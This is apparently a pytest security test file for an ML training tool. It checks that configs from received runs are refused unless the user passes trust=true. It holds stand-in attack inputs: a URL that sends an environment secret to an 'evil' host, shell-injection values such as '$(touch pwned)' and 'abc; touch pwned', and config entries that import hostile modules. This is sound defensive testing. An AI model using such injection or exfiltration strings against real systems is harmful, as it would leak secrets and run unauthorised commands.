"""Reading what others made runs none of their code: each way in is tried with a file that would.

Every payload creates ``pwned``; a test first shows that the payload works if it is let in.
"""

from __future__ import annotations

import json
import shlex
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
import yaml

import tiny
from received_runs import IN_CONFIG, words_of
from selftask.checkpoint import rotation, store
from selftask.cli.main import main
from selftask.config import trust
from selftask.config.load import load_config
from selftask.errors import UserError, masked
from selftask.report.page import render

PACKAGE = tiny.ROOT / "ssl" / "selftask"


@pytest.mark.parametrize(
    ("way", "command"),
    [(way, "eval") for way in IN_CONFIG]
    + [("import", "finetune"), ("data", "finetune"), ("data.val", "finetune")]
    + [("import", "features"), ("data", "features"), ("import", "export"), ("backbone", "export")],
)
def test_the_config_of_a_run(
    way: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = received(IN_CONFIG[way])
    (run / "more.yaml").write_text("import: [evil]\n")
    assert main(words_of(command, run)) == 2
    assert not pwned.exists()
    (error,) = capsys.readouterr().err.splitlines()
    named = "import: evil" if "import" in way else f"{way}."
    assert named in error
    assert "os:mkdir" in error or "import" in way
    assert "trust=true" in error


@pytest.mark.parametrize("way", ["import", "data", "backbone"])
def test_trust_lets_it_in(
    way: str, pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    """The payloads are real, and the key does what it says."""
    command = "export" if way == "backbone" else "eval"
    main([*words_of(command, received(IN_CONFIG[way])), "trust=true"])
    assert pwned.exists()


def test_a_run_that_names_no_code_needs_no_trust(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    run = received({})
    assert main([*words_of("eval", run), "trust=false"]) == 0
    assert main(words_of("features", run)) == 0
    assert main(words_of("export", run)) == 0


READERS = ("eval", "features", "export", "finetune", "report", "test")


def reading(command: str, run: Path) -> list[str]:
    words = {"report": ["report", str(run)], "test": ["test", str(run)]}
    return words.get(command) or words_of(command, run)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("import: ['${recipe}']", "import: evil"),
        (
            "backbone: {name: '${task}', model: 'os:mkdir', args: {path: pwned}}\ntask: custom",
            "os:",
        ),
    ],
)
def test_code_behind_a_reference_to_another_key_is_refused_before_it_runs(
    text: str, code: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Code is judged once, on resolved values, and nothing is imported before that."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "evil.py").write_text("import os\nos.mkdir('pwned')\n")
    (tmp_path / "config.yaml").write_text(f"defaults: [/simclr/digits]\nrecipe: evil\n{text}\n")
    with pytest.raises(UserError, match=f"names code of its own.*{code}"):
        load_config("config.yaml", [], trust=False)
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize(
    ("command", "text"),
    [
        *((command, "https://evil/${oc.env:SECRET}") for command in READERS),
        *(("eval", "${oc.${recipe}:SECRET}"), ("finetune", "\\${oc.env:SECRET}")),
    ],
)
def test_references_of_a_received_run_are_not_resolved(
    text: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    asked: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A secret of the environment left the machine in the address of the run's data."""
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    values["recipe"] = "env"
    values["data"]["path"] = text
    values["data"]["val"] = {"name": "array", "path": text}
    (run / "config.yaml").write_text(yaml.safe_dump(values))
    code = main(reading(command, run))
    assert code == 2 or command in ("report", "export")
    assert asked == []
    shown = capsys.readouterr()
    written = [path for path in pwned.parent.rglob("*") if path.suffix in (".html", ".json")]
    texts = [shown.out, shown.err, *(path.read_text() for path in written)]
    assert not any("hunter2" in text for text in texts)
    if command == "eval":
        assert "config.yaml:" in shown.err and "data.path: a reference" in shown.err


@pytest.mark.parametrize(
    ("command", "key"),
    [
        *(("eval", "data.val"), ("eval", "resume"), ("export", "out"), ("export", "data")),
        *(("finetune", "data"), ("report", "data"), ("test", "data"), ("test", "method")),
    ],
)
def test_addresses_of_a_received_run_are_not_fetched(
    key: str,
    command: str,
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    asked: list[str],
    capsys: pytest.CaptureFixture[str],
) -> None:
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    address = "s3://evil/x"
    changes = {
        "data": {"data": {**values["data"], "path": address}},
        "data.val": {"data": {**values["data"], "val": {"name": "array", "path": address}}},
        "resume": {"resume": {"checkpoint": address}},
        "out": {"out": address},
        "init": {"init": {"backbone": address}},
        "method": {"method": {"name": "distill", "teacher": address}},
    }
    (run / "config.yaml").write_text(yaml.safe_dump(values | changes[key]))
    main(reading(command, run))
    assert asked == []
    error = capsys.readouterr().err
    if key.startswith("data") and command in ("eval", "finetune"):
        assert f"{key}.path: s3://evil/x would be fetched, which the run names" in error


def test_what_the_user_names_is_fetched(
    pwned: Path, received: Callable[[dict[str, Any]], Path], asked: list[str]
) -> None:
    run = received({})
    assert main([*words_of("eval", run), "data=s3://mine/x.npz"]) == 2
    assert set(asked) == {"s3://mine/x.npz"}


def test_repro_and_replay_run_no_code_of_the_run(
    pwned: Path,
    received: Callable[[dict[str, Any]], Path],
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Neither of config.yaml and command, nor in the shell lines to be copied."""
    run = received(IN_CONFIG["import"])
    monkeypatch.syspath_prepend(str(run))  # such as a current folder that was received
    words = ["selftask", "train", str(run / "config.yaml"), "import=[evil]", "backbone=os:mkdir"]
    environment = {"command": words, "packages": {}, "folder": "/x; touch pwned"}
    commit = {"commit": "abc; touch pwned", "folder": "/x", "diff": "$(touch pwned)"}
    for git in ({}, commit, {**commit, "commit": "abcdef0"}, {**commit, "commit": "--help"}):
        (run / "environment.json").write_text(json.dumps({**environment, "git": git}))
        code = main(["repro", str(run)])
        shown = capsys.readouterr()
        assert code == (2 if git.get("commit", "abcdef0") != "abcdef0" else 1)
        assert "trust=true" in shown.out or "git.commit" in shown.err
        lines = shown.out.partition("to repeat it:\n")[2].splitlines()
        assert [shlex.join(shlex.split(line)) for line in lines] == [x.strip() for x in lines]
    assert not pwned.exists()
    dump = run / "failures" / "step_1"
    dump.mkdir(parents=True)
    state = store.load(rotation.checkpoints(run / "checkpoints")[0])
    store.save(state, dump, 1, keep=1)
    torch.save(
        {"ranks": 1, "step": 1, "problem": "nan", "loss": 0.0, "batch": {}}, dump / "rank_0.pt"
    )
    (dump / "config.yaml").write_bytes((run / "config.yaml").read_bytes())
    assert main(["replay", str(dump)]) == 2
    assert "names code of its own, which reading it would run: import: evil" in (
        capsys.readouterr().err
    )
    assert not pwned.exists()
    (run / "environment.json").write_text(json.dumps(environment))
    main(["repro", str(run), "trust=true"])
    assert pwned.exists()


def test_what_the_user_typed_is_the_users(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    """An own data set for a received run; the run's folder stays out of python's path."""
    run = received({})
    (run / "timm").mkdir()
    (run / "timm/__init__.py").write_text((run / "evil.py").read_text())
    (pwned.parent / "mine.py").write_text(
        "import numpy as np\n"
        "class Set:\n"
        "    targets = [i % 2 for i in range(30)]\n"
        "    def __len__(self): return 30\n"
        "    def __getitem__(self, i): return np.zeros((8, 8, 3), 'uint8'), i % 2\n"
    )
    assert main([*words_of("eval", run), "import=[mine]", "data=mine:Set"]) == 0
    assert str(run) not in sys.path
    assert not pwned.exists()


def test_a_received_run_chooses_no_folder_to_write_to(
    pwned: Path, received: Callable[[dict[str, Any]], Path]
) -> None:
    run = received({})
    values = yaml.safe_load((run / "config.yaml").read_text())
    values["data"]["stage_to"] = str(pwned)
    (run / "config.yaml").write_text(yaml.safe_dump(values))
    assert main(words_of("eval", run)) == 0
    assert not pwned.exists()
    assert main([*words_of("eval", run), f"data.stage_to={pwned}"]) == 0
    assert pwned.exists()


def test_whoever_calls_by_address_is_known_to_trust() -> None:
    """A new registered thing that imports what a config names has to be called ``custom``."""
    callers = {
        path.relative_to(PACKAGE).as_posix()
        for path in PACKAGE.rglob("*.py")
        if "import import_object" in (text := path.read_text()) or ", import_object" in text
    }
    named_custom = {
        *("models/backbones/libraries.py", "data/sources/dataset_objects.py"),
        "data/transforms/custom.py",
    }
    assert callers == {
        *named_custom,
        "config/extensions/plugin_files.py",
    }  # which finds what a run trains
    for values in (IN_CONFIG["backbone"], IN_CONFIG["data"], IN_CONFIG["data.val"]):
        assert [address for _, address in trust.code_in(values)] == ["os:mkdir"]


def test_a_word_in_passing_is_not_typed(pwned: Path) -> None:
    """The module ``data`` of a file does not become the user's by ``data=DIR``."""
    Path("r.yaml").write_text("defaults: [/simclr/digits, _self_]\nimport: [data]\n")
    for words in (["data=digits"], ["out=import=data"]):
        with pytest.raises(trust.UserError, match="import: data"):
            load_config("r.yaml", words, trust=False)


def test_passwords_in_addresses_are_masked(
    pwned: Path, capsys: pytest.CaptureFixture[str], asked: list[str]
) -> None:
    """In what ``config`` prints, in errors and in pages; masks change nothing else."""
    words = ["simclr/digits", "data=s3://user:hunter2@host/x"]
    main(["config", *words])
    main(["train", *words, "out=run"])
    shown = capsys.readouterr()
    assert "s3://user:***@host/x" in shown.out + shown.err
    assert "hunter2" not in shown.out + shown.err
    for text in ("http://127.0.0.1:80/a@b", "a:b@c", "s3://bucket/run@best", "me@host:path"):
        assert masked(text) == text
    assert render("images.note", "see http://a:b@c/d") == "<p class=muted>see http://a:***@c/d</p>"
